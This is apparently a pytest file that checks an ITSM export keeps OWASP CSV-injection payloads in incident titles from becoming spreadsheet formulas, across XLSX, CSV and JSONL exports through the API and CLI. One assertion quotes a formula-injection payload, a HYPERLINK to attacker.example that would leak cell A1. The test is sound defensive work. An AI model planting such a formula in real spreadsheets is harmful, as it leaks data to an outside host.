"""OWASP CSV-injection payloads in ITSM text never become formulas in an export (SPEC §13).

Every payload of ``csv_injection.json`` is put in incident titles and the
month is exported through the API (qa-read) and the CLI, as XLSX (read back
with openpyxl: each cell is a string or a number, never a formula) and CSV
(read back with csv: each text cell starting with = + - @ tab CR carries a
leading quote). A real numeric field that is negative stays a number.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from api.cli import main
from core.export import COLUMNS
from core.store.models import ComplianceRecord, Incident
from tests.api.conftest import Served, api_config, auth, serve_month
from tests.safety import corpus

PAYLOADS: list[str] = corpus("csv_injection")["payloads"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NEGATIVE = -7


@pytest.fixture
def hostile(database_url: str, tmp_path: Path) -> Iterator[Served]:
    """A served sandbox month whose incident titles are the payloads, one numeric field < 0."""
    for served in serve_month(api_config(database_url, tmp_path, incidents=30)):
        with served.rt.db.session() as s:
            incidents = list(
                s.scalars(
                    select(Incident)
                    .join(ComplianceRecord, ComplianceRecord.incident_id == Incident.id)
                    .where(ComplianceRecord.month == "2026-10", ~ComplianceRecord.cancelled)
                    .order_by(Incident.id)
                )
            )
            assert len(incidents) >= len(PAYLOADS)
            for inc, payload in zip(incidents, PAYLOADS, strict=False):
                inc.title = payload
            rec = s.scalars(
                select(ComplianceRecord).where(ComplianceRecord.month == "2026-10").limit(1)
            ).one()
            rec.response_s = NEGATIVE
        yield served


def _check_xlsx(data: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["incidents"]
    rows = list(sheet.iter_rows())
    title = COLUMNS.index("title")
    seen: set[str] = set()
    for row in rows:
        for cell in row:
            assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value, cell.data_type)
        value = row[title].value
        if isinstance(value, str):
            text = value.replace("_x000D_", "\r")  # openpyxl keeps Excel's escape of CR
            seen.add(text)
            if text.startswith(TRIGGERS):
                assert row[title].quotePrefix, (row[title].coordinate, value)
    assert set(PAYLOADS) <= seen
    numbers = [r[COLUMNS.index("response_s")] for r in rows[1:]]
    assert any(c.value == NEGATIVE and c.data_type == "n" for c in numbers)
    for cell in book["indicators"]["A"]:
        assert cell.data_type == "s"


def _check_csv(data: bytes) -> None:
    text = data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    titles = {row["title"] for row in rows}
    for payload in PAYLOADS:
        shown = "'" + payload if payload.startswith(TRIGGERS) else payload
        assert shown in titles, payload
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(TRIGGERS) or value == str(NEGATIVE), (column, value)
    assert str(NEGATIVE) in {row["response_s"] for row in rows}  # a number, not "'-7"
    # every text cell is quoted in the file itself (OWASP: wrap in double quotes)
    assert '"\'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click for details"")"' in text


def test_api_exports_for_qa_read_hold_no_formula(hostile: Served) -> None:
    xlsx = hostile.client.get(
        "/exports/2026-10", params={"format": "xlsx"}, headers=auth("qa-read")
    )
    assert xlsx.status_code == 200
    _check_xlsx(xlsx.content)
    got = hostile.client.get("/exports/2026-10", headers=auth("qa-read"))
    assert got.status_code == 200
    _check_csv(got.content)
    jsonl = hostile.client.get(
        "/exports/2026-10", params={"format": "jsonl"}, headers=auth("qa-read")
    )
    raw_titles = {json.loads(line)["title"] for line in jsonl.text.splitlines()}
    assert set(PAYLOADS) <= raw_titles  # JSON keeps the raw value: JSON is not evaluated


def test_cli_exports_hold_no_formula(hostile: Served, tmp_path: Path) -> None:
    config = str(hostile.deployment.path)
    for fmt in ("xlsx", "csv"):
        out = tmp_path / f"out-{fmt}"
        assert main(["export", "-c", config, "--period", "2026-10", "--format", fmt,
                     "--out", str(out)]) == 0  # fmt: skip
        main_file = out / f"qloop-2026-10-default.{fmt}"
        (_check_xlsx if fmt == "xlsx" else _check_csv)(main_file.read_bytes())
    side = tmp_path / "out-csv" / "qloop-2026-10-default-indicators.csv"
    assert side.read_text(encoding="utf-8-sig").startswith('"indicator","value"')
